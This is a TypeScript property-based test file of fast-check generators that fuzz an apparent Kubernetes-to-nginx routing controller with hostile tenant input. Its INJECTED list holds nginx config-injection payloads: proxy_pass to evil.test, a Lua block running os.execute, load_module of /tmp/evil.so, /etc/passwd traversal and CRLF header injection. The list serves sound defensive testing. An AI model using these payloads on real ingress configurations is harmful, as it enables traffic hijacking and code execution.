// fast-check generators of clusters whose every field a tenant can write is a mix of valid values
// and hostile ones: nginx syntax, control characters, look-alike unicode, wrong JSON types, deep
// nesting, huge arrays, duplicate keys, oversized annotations. Which parts are valid is decided by
// spec-oracle.ts, never by src/.
import fc from 'fast-check';
import type { KubeObject } from '../../src/types.js';
import {
  APP_NAME_LABEL,
  APP_REV_LABEL,
  type ClusterEnv,
  ENV_LABEL,
  HOSTS,
  ORG_LABEL,
  PATHS,
  ROUTABLE_LABEL,
  tlsFixture,
} from './harness.js';
import type { Annotation, GenCluster, GenNamespace, GenPod, GenSecret } from './spec-oracle.js';

// ------------------------------------------------------------------ hostile text

/** Directives an attacker would like to see in nginx.conf, in the shapes past CVEs used. */
const INJECTED = [
  'a.test; }\nserver { listen 80; server_name evil.test; location / { proxy_pass http://evil.test; } }\n#',
  '/api"; return 200 "pwned',
  "/api'; proxy_pass http://evil.test;#",
  '/x { } location /y { return 200; }',
  '/api\r\nproxy_pass http://evil.test;',
  '/api\nlog_by_lua_block { os.execute("id") }',
  '/api;permanent_redirect https://evil.test',
  '/$host$request_uri',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: nginx's variable syntax, on purpose
  '/${http_authorization}',
  '/api#',
  '/\\"; evil',
  '/api\u0000evil',
  '/api\uff1b return 200',
  '/\u202eipa',
  '/../etc/passwd',
  '/%2e%2e/secret',
  '/a/./b',
  '//evil',
  'ssl_engine /tmp/evil.so',
  'load_module /tmp/evil.so;',
  '}}}}',
  '{{{{',
  '"\'"\'',
  '\\\\\\',
  'a.test\r\nX-Injected: 1',
  '*.a.test',
  '~^(?<x>.+)$',
  'a.test.',
  '.a.test',
  'a..test',
  '127.0.0.1:80',
  '[::1]',
  '1.2.3.999',
  '\u212A.test',
  'ＡＰＩ.test',
] as const;

const SYNTAX_UNITS = [
  ';',
  '{',
  '}',
  '"',
  "'",
  '$',
  '#',
  '\\',
  '\n',
  '\r',
  '\t',
  ' ',
  '/',
  '.',
  '%',
  '-',
  'a',
  'Z',
  '0',
  '\u0000',
  '\u001b',
  '\u202e',
  '\uff1b',
  '\u2028',
  'é',
] as const;

const syntaxString = (maxLength: number) => fc.string({ unit: fc.constantFrom(...SYNTAX_UNITS), maxLength });

/** A string an attacker could write into any field. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTED) },
  { weight: 4, arbitrary: syntaxString(24) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 24 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('/api', 'a.test', 'http', 'api-key'), fc.constantFrom(...INJECTED))
      .map(([valid, attack]) => valid + attack),
  },
  { weight: 1, arbitrary: fc.nat({ max: 6000 }).map((n) => `/${'a'.repeat(n)}`) },
  { weight: 1, arbitrary: syntaxString(3000).map((s) => s.repeat(2)) },
);

/** JSON text kept as is when an annotation is written (deep nesting, duplicate keys). */
class RawJson {
  constructor(readonly text: string) {}
}

/** Any JSON value, or something worse: deep nesting, huge arrays, numbers where strings go. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null)) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(3000, 8080, '8080.5', ' 8080', '0x1f90', '1e3', 8080.5, -1, 0, 65536),
  },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 50, max: 4000 }).map((d) => new RawJson(`${'['.repeat(d)}${']'.repeat(d)}`)),
  },
  { weight: 1, arbitrary: fc.integer({ min: 100, max: 5000 }).map((n) => new Array(n).fill('/;')) },
);

/**
 * What may stand in metadata.name / metadata.namespace. The API server only ever sends strings
 * there; a manifest file can hold anything, but deep nesting in a name crashes the store's keyOf
 * (String() of the value overflows the stack: reported, src/store.ts), so names stay shallow.
 */
export const hostileName: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
);

/** JSON text of `value`, with RawJson parts inserted verbatim. */
function jsonText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(jsonText).join(',')}]`;
  if (typeof value === 'object' && value !== null) {
    return `{${Object.entries(value)
      .map(([k, v]) => `${JSON.stringify(k)}:${jsonText(v)}`)
      .join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

// ------------------------------------------------------------------ valid building blocks

const VALID_HOSTS = [
  'shop.test',
  'api.shop.test',
  'a.test',
  'b-c.test',
  '10.1.2.3',
  'localhost',
  'x1.example.com',
];
const VALID_PATHS = [
  '/',
  '/api',
  '/api/v1',
  '/nodejs',
  '/a-b_c.d~e',
  '/%41x',
  '/x:y@z&(w)*+,=!',
  '/.well-known',
];
const VALID_TARGETS = ['/', '/bar', '/v2/api', '/%7Euser'];
const VALID_IPS = ['10.0.0.1', '10.0.0.2', '10.0.0.3', '192.168.1.9', 'fd00::1', 'FD00::2'];
const NAMESPACE_NAMES = ['alpha', 'beta', 'gamma', 'delta', 'omega'];
const POD_NAMES = ['web-1', 'web-2', 'api-1', 'db.0', 'z'];
const TIMESTAMPS = ['2021-01-01T00:00:00Z', '2022-06-01T00:00:00Z', '2023-03-03T03:03:03Z', ''];

/** A valid host in a random mix of upper and lower case (host names are case-insensitive). */
const validHostKey = fc
  .tuple(
    // Mostly two hosts, so that tenants meet on them.
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom('shop.test', 'a.test') },
      fc.constantFrom(...VALID_HOSTS),
    ),
    fc.array(fc.boolean(), { minLength: 20, maxLength: 20 }),
  )
  .map(([host, upper]) => [...host].map((c, i) => (upper[i] ? c.toUpperCase() : c)).join(''));

const secretRef = (key: unknown) => ({ valueFrom: { secretKeyRef: { key } } });

const validHostOptions: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.constant({}) },
  {
    weight: 2,
    arbitrary: fc.constant({
      ssl: { certificate: secretRef('tls-crt'), certificateKey: secretRef('tls-key') },
    }),
  },
  {
    weight: 1,
    arbitrary: fc.constant({
      ssl: {
        certificate: secretRef('tls-crt'),
        certificateKey: secretRef('tls-key'),
        clientCertificate: secretRef('ca-crt'),
      },
    }),
  },
);

const hostileHostOptions: fc.Arbitrary<unknown> = fc.oneof(
  hostileValue,
  hostileString.map((key) => ({
    ssl: { certificate: secretRef(key), certificateKey: secretRef('tls-key') },
  })),
  fc.constant({ ssl: {} }),
  fc.constant({ tls: {} }),
  fc.constant({
    ssl: { certificate: secretRef('tls-crt'), certificateKey: secretRef('tls-key'), extra: true },
  }),
  fc.constant({
    ssl: {
      certificate: { valueFrom: { secretKeyRef: { key: 'tls-crt', name: 'other' } } },
      certificateKey: secretRef('tls-key'),
    },
  }),
);

// ------------------------------------------------------------------ annotations

const hostEntry = fc.oneof(
  { weight: 9, arbitrary: fc.tuple(validHostKey, validHostOptions) },
  { weight: 2, arbitrary: fc.tuple(hostileString, validHostOptions) },
  { weight: 2, arbitrary: fc.tuple(validHostKey, hostileHostOptions) },
  { weight: 1, arbitrary: fc.tuple(hostileString, hostileValue) },
);

/** A JSON object written by hand, so that keys may repeat (JSON.parse keeps the last). */
const hostEntries = fc
  .array(hostEntry, { minLength: 1, maxLength: 5 })
  .chain((entries) =>
    fc
      .option(fc.nat({ max: Math.max(0, entries.length - 1) }), { nil: undefined })
      .map((repeat) =>
        repeat === undefined || entries.length === 0
          ? entries
          : [...entries, entries[repeat] as [string, unknown]],
      ),
  );

const objectText = (entries: [string, unknown][]) =>
  `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${jsonText(value)}`).join(',')}}`;

const hostsObjectText = hostEntries.map(objectText);

const WHITESPACE = fc.constantFrom(' ', '  ', '\t', '\n', '\r\n', ' \f ', '\v');

/** The legacy form: host names separated by whitespace, some of them hostile. */
const legacyHostsText: fc.Arbitrary<string> = fc
  .array(
    fc.tuple(
      fc.oneof({ weight: 3, arbitrary: validHostKey }, { weight: 2, arbitrary: hostileString }),
      WHITESPACE,
    ),
    {
      minLength: 1,
      maxLength: 6,
    },
  )
  .chain((parts) => fc.tuple(fc.constant(parts), WHITESPACE, fc.boolean()))
  .map(([parts, lead, padded]) => (padded ? lead : '') + parts.map(([host, space]) => host + space).join(''));

/** Valid content padded past 64 KiB: still valid JSON, too large to be read. */
const oversized = (inner: string) => `${inner}${' '.repeat(64 * 1024 + 1)}`;

function annotation(text: fc.Arbitrary<string>, validWeight: number): fc.Arbitrary<Annotation> {
  return fc.oneof(
    { weight: validWeight, arbitrary: text.map((t): Annotation => ({ kind: 'text', text: t })) },
    { weight: 1, arbitrary: hostileString.map((t): Annotation => ({ kind: 'text', text: t })) },
    {
      weight: 1,
      arbitrary: fc
        .jsonValue({ maxDepth: 2 })
        .map((v): Annotation => ({ kind: 'text', text: JSON.stringify(v) })),
    },
    { weight: 1, arbitrary: text.map((t): Annotation => ({ kind: 'text', text: oversized(t) })) },
    {
      weight: 1,
      arbitrary: fc.constantFrom<Annotation>(
        { kind: 'absent' },
        { kind: 'value', value: 42 },
        { kind: 'value', value: ['a.test'] },
      ),
    },
  );
}

const hostsAnnotation = (form: 'json' | 'legacy'): fc.Arbitrary<Annotation> =>
  annotation(
    form === 'json'
      ? fc.oneof({ weight: 4, arbitrary: hostsObjectText }, { weight: 1, arbitrary: legacyHostsText })
      : legacyHostsText,
    10,
  );

const validEntry = fc.record(
  {
    basePath: fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom('/', '/api') },
      fc.constantFrom(...VALID_PATHS),
    ),
    containerPort: fc.constantFrom<unknown>(3000, '3000', 'http', 8080, 'admin', 9000, 'metrics'),
    targetPath: fc.constantFrom(...VALID_TARGETS),
    weight: fc.integer({ min: 1, max: 1000 }),
  },
  { requiredKeys: ['basePath', 'containerPort'] },
);

/** A valid entry with one field spoiled, an unknown field added, or not an object at all. */
const hostileEntry: fc.Arbitrary<unknown> = fc.oneof(
  fc
    .tuple(validEntry, fc.constantFrom('basePath', 'containerPort', 'targetPath', 'weight'), hostileValue)
    .map(([entry, key, value]) => ({ ...entry, [key]: value })),
  fc
    .tuple(validEntry, hostileString, hostileValue)
    .map(([entry, key, value]) => ({ ...entry, [key]: value })),
  validEntry.map(({ basePath: _dropped, ...rest }) => rest),
  hostileValue,
  // A key written twice: JSON.parse keeps the last, whichever of the two is hostile.
  fc
    .tuple(
      validEntry,
      fc.constantFrom('basePath', 'containerPort', 'targetPath'),
      hostileString,
      fc.boolean(),
    )
    .map(([entry, key, hostile, hostileLast]) => {
      const valid = entry[key as keyof typeof entry] ?? '/ok';
      const [first, last] = hostileLast ? [valid, hostile] : [hostile, valid];
      const rest = jsonText(entry).slice(1, -1);
      return new RawJson(
        `{${JSON.stringify(key)}:${JSON.stringify(first)},${rest},${JSON.stringify(key)}:${JSON.stringify(last)}}`,
      );
    }),
);

const pathEntries = fc.array(
  fc.oneof({ weight: 3, arbitrary: validEntry }, { weight: 2, arbitrary: hostileEntry }),
  { maxLength: 6 },
);

const pathsArrayText = pathEntries.map((entries) => jsonText(entries));

const pathsAnnotation = annotation(pathsArrayText, 10);

// ------------------------------------------------------------------ objects

const hostileLabels = fc.dictionary(
  fc.oneof(fc.constantFrom(ORG_LABEL, ENV_LABEL, APP_NAME_LABEL, APP_REV_LABEL), hostileString),
  hostileValue,
  { maxKeys: 3 },
);

/** Labels that (almost always) make the object routable, plus hostile ones that must not matter. */
const labels = fc
  .tuple(
    fc.oneof({ weight: 12, arbitrary: fc.constant<unknown>('true') }, { weight: 1, arbitrary: hostileValue }),
    hostileLabels,
  )
  .map(([routable, extra]) => ({ ...extra, [ROUTABLE_LABEL]: routable }));

const namespaceName = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom<unknown>(...NAMESPACE_NAMES) },
  { weight: 1, arbitrary: hostileName },
);

const namespaceArb = (form: 'json' | 'legacy'): fc.Arbitrary<GenNamespace> =>
  fc.record({
    name: namespaceName,
    creationTimestamp: fc.oneof(
      { weight: 8, arbitrary: fc.constantFrom<string | undefined>(...TIMESTAMPS, undefined) },
      { weight: 1, arbitrary: fc.constant('yesterday') },
    ),
    labels,
    hosts: hostsAnnotation(form),
  });

const portDeclaration = fc.oneof(
  { weight: 3, arbitrary: fc.constant<unknown>({ containerPort: 9000, name: 'metrics' }) },
  { weight: 2, arbitrary: fc.record({ containerPort: fc.constant(9000), name: hostileString }) },
  {
    weight: 2,
    arbitrary: fc.record({ containerPort: hostileValue, name: fc.constantFrom('metrics', 'http') }),
  },
  { weight: 1, arbitrary: hostileValue },
);

const probe = fc.record(
  {
    httpGet: fc.record({
      path: fc.oneof(fc.constantFrom(...VALID_PATHS), hostileString),
      port: fc.oneof(fc.constantFrom<unknown>(3000, 'http'), hostileValue),
    }),
    periodSeconds: fc.oneof(fc.integer({ min: 1, max: 100 }), hostileValue),
    failureThreshold: fc.oneof(fc.integer({ min: 1, max: 10 }), hostileValue),
  },
  { requiredKeys: ['httpGet'] },
);

/** Container 0 declares 3000 "http" and 8080 "admin"; an optional container 1 declares more, maybe badly. */
const containers = fc
  .tuple(
    fc.option(probe, { nil: undefined }),
    fc.option(fc.array(portDeclaration, { maxLength: 3 }), { nil: undefined }),
  )
  .map(([readinessProbe, extraPorts]) => [
    {
      name: 'app',
      ports: [
        { containerPort: 3000, name: 'http' },
        { containerPort: 8080, name: 'admin' },
      ],
      ...(readinessProbe && { readinessProbe }),
    },
    ...(extraPorts ? [{ name: 'sidecar', ports: extraPorts }] : []),
  ]);

const podArb = (namespaces: unknown[]): fc.Arbitrary<GenPod> =>
  fc.record({
    namespace: fc.oneof(
      {
        weight: 10,
        arbitrary: namespaces.length > 0 ? fc.constantFrom(...namespaces) : fc.constant<unknown>('alpha'),
      },
      { weight: 1, arbitrary: fc.constant<unknown>('orphan') },
      { weight: 1, arbitrary: hostileName },
    ),
    name: fc.oneof(
      { weight: 10, arbitrary: fc.constantFrom<unknown>(...POD_NAMES) },
      { weight: 1, arbitrary: hostileName },
    ),
    ip: fc.oneof(
      { weight: 10, arbitrary: fc.constantFrom<unknown>(...VALID_IPS) },
      { weight: 1, arbitrary: hostileValue },
    ),
    labels,
    containers,
    paths: pathsAnnotation,
  });

/** What a routing secret's field holds: an API key, the fixture's TLS material, or hostile bytes. */
const secretData = (certB64: string, keyB64: string): fc.Arbitrary<unknown> => {
  const b64 = (text: string) => Buffer.from(text).toString('base64');
  const tlsValue = fc.constantFrom(
    certB64,
    keyB64,
    b64('-----BEGIN CERTIFICATE-----\nnope\n-----END CERTIFICATE-----\n'),
  );
  const field = fc.oneof(
    { weight: 4, arbitrary: fc.tuple(fc.constant('api-key'), fc.string({ maxLength: 20 }).map(b64)) },
    { weight: 4, arbitrary: fc.constant(['tls-crt', certB64]) },
    { weight: 4, arbitrary: fc.constant(['tls-key', keyB64]) },
    { weight: 2, arbitrary: fc.constant(['ca-crt', certB64]) },
    { weight: 3, arbitrary: fc.tuple(fc.constantFrom('tls-crt', 'tls-key', 'ca-crt'), tlsValue) },
    { weight: 1, arbitrary: fc.tuple(fc.constant('api-key'), hostileValue) },
    { weight: 1, arbitrary: fc.tuple(hostileString, hostileValue) },
    { weight: 1, arbitrary: fc.tuple(hostileString, fc.string().map(b64)) },
  );
  return fc.oneof(
    {
      weight: 8,
      // Half of the time a complete TLS set, so that SSL hosts get served, not only refused.
      arbitrary: fc.tuple(fc.array(field, { maxLength: 6 }), fc.boolean()).map(([fields, tlsSet]) => ({
        ...Object.fromEntries(fields),
        ...(tlsSet && { 'tls-crt': certB64, 'tls-key': keyB64, 'ca-crt': certB64 }),
      })),
    },
    { weight: 1, arbitrary: hostileValue },
  );
};

const secretArb = (namespaces: unknown[]): fc.Arbitrary<GenSecret> => {
  const { certB64, keyB64 } = tlsFixture();
  return fc.record({
    namespace: fc.oneof(
      {
        weight: 10,
        arbitrary: namespaces.length > 0 ? fc.constantFrom(...namespaces) : fc.constant<unknown>('alpha'),
      },
      { weight: 1, arbitrary: hostileName },
    ),
    name: fc.oneof(
      { weight: 10, arbitrary: fc.constant<unknown>('routing') },
      { weight: 1, arbitrary: hostileName },
    ),
    data: secretData(certB64, keyB64),
  });
};

const clusterEnv: fc.Arbitrary<ClusterEnv> = fc.record({
  sslEnabled: fc.boolean(),
  hostSharing: fc.constantFrom('shared', 'exclusive'),
  healthChecks: fc.boolean(),
});

/** The store's key for an object: two generated objects never share one (the API server would not let them). */
const storeKey = (namespace: unknown, name: unknown): string =>
  `${String(namespace ?? '')}/${String(name ?? '')}`;

const routableLabels = hostileLabels.map((extra) => ({ ...extra, [ROUTABLE_LABEL]: 'true' }));

/** A tenant that lists a valid host first, whatever hostile entries follow. */
const anchorNamespace = (form: 'json' | 'legacy'): fc.Arbitrary<GenNamespace> =>
  fc.record({
    name: fc.constantFrom<unknown>(...NAMESPACE_NAMES),
    creationTimestamp: fc.constantFrom<string | undefined>(...TIMESTAMPS),
    labels: routableLabels,
    hosts: (form === 'json'
      ? fc
          .tuple(
            validHostKey,
            fc.oneof({ weight: 2, arbitrary: fc.constant({}) }, validHostOptions),
            hostEntries,
          )
          .map(([host, options, rest]) => objectText([[host, options], ...rest]))
      : fc.tuple(validHostKey, legacyHostsText).map(([host, rest]) => `${host} ${rest}`)
    ).map((text): Annotation => ({ kind: 'text', text })),
  });

/** A ready pod of the anchor tenant whose first paths entry is valid, whatever hostile entries follow. */
const anchorPod = (namespace: unknown): fc.Arbitrary<GenPod> =>
  fc.record({
    namespace: fc.constant(namespace),
    name: fc.constantFrom<unknown>(...POD_NAMES),
    ip: fc.constantFrom<unknown>(...VALID_IPS),
    labels: routableLabels,
    containers,
    paths: fc
      .tuple(validEntry, pathEntries)
      .map(([entry, rest]): Annotation => ({ kind: 'text', text: jsonText([entry, ...rest]) })),
  });

const unique = <T>(items: T[], key: (item: T) => string): T[] => {
  const seen = new Set<string>();
  return items.filter((item) => !seen.has(key(item)) && Boolean(seen.add(key(item))));
};

/**
 * A cluster of a few tenants: namespaces, pods pointing at them, routing secrets. The first tenant
 * always routes something (so that every case checks valid routes survive their hostile
 * neighbours); everything else may be valid or hostile.
 */
export const cluster = (form: 'json' | 'legacy' = 'json'): fc.Arbitrary<GenCluster> =>
  fc
    .tuple(
      clusterEnv,
      fc.array(anchorNamespace(form), { minLength: 1, maxLength: 2 }),
      fc.array(namespaceArb(form), { maxLength: 3 }),
    )
    .chain(([env, anchors, others]) => {
      const namespaces = unique([...anchors, ...others], (ns) => storeKey('', ns.name));
      const names = namespaces.map((ns) => ns.name);
      const anchorNames = unique(anchors, (ns) => storeKey('', ns.name)).map((ns) => ns.name);
      const { certB64, keyB64 } = tlsFixture();
      return fc.record({
        env: fc.constant(env),
        namespaces: fc.constant(namespaces),
        pods: fc
          .tuple(fc.tuple(...anchorNames.map(anchorPod)), fc.array(podArb(names), { maxLength: 8 }))
          .map(([first, rest]) => unique([...first, ...rest], (p) => storeKey(p.namespace, p.name))),
        secrets: fc
          .tuple(
            fc
              .subarray(anchorNames)
              .chain((owners) =>
                fc.tuple(
                  ...owners.map((namespace) =>
                    secretData(certB64, keyB64).map(
                      (data): GenSecret => ({ namespace, name: 'routing', data }),
                    ),
                  ),
                ),
              ),
            fc.array(secretArb(names), { maxLength: 3 }),
          )
          .map(([first, rest]) => unique([...first, ...rest], (s) => storeKey(s.namespace, s.name))),
      });
    });

// ------------------------------------------------------------------ to Kubernetes objects

/** RawJson parsed, as a source would deliver it: objects hold only what JSON/YAML can. */
function plain(value: unknown): unknown {
  if (value instanceof RawJson) return JSON.parse(value.text);
  if (Array.isArray(value)) return value.map(plain);
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, plain(v)]));
  }
  return value;
}

function annotationsOf(name: string, value: Annotation): Record<string, unknown> {
  if (value.kind === 'absent') return {};
  return { [name]: value.kind === 'text' ? value.text : value.value };
}

/** The cluster with every RawJson parsed: what both the objects and the oracle are made from. */
export function plainCluster(generated: GenCluster): GenCluster {
  return plain(generated) as GenCluster;
}

/**
 * A cluster (after plainCluster) as the objects a source would deliver: untrusted shapes kept as
 * they are.
 */
export function toObjects(gen: GenCluster): KubeObject[] {
  const objects: KubeObject[] = [];
  for (const ns of gen.namespaces) {
    objects.push({
      apiVersion: 'v1',
      kind: 'Namespace',
      metadata: {
        name: ns.name as string,
        labels: ns.labels as Record<string, string>,
        annotations: annotationsOf(HOSTS, ns.hosts) as Record<string, string>,
        ...(ns.creationTimestamp !== undefined && { creationTimestamp: ns.creationTimestamp }),
      },
    });
  }
  for (const pod of gen.pods) {
    objects.push({
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: {
        name: pod.name as string,
        namespace: pod.namespace as string,
        labels: pod.labels as Record<string, string>,
        annotations: annotationsOf(PATHS, pod.paths) as Record<string, string>,
      },
      spec: { containers: pod.containers },
      status: { phase: 'Running', podIP: pod.ip, conditions: [{ type: 'Ready', status: 'True' }] },
    });
  }
  for (const secret of gen.secrets) {
    objects.push({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: secret.name as string, namespace: secret.namespace as string },
      data: secret.data as Record<string, string>,
    });
  }
  return objects;
}
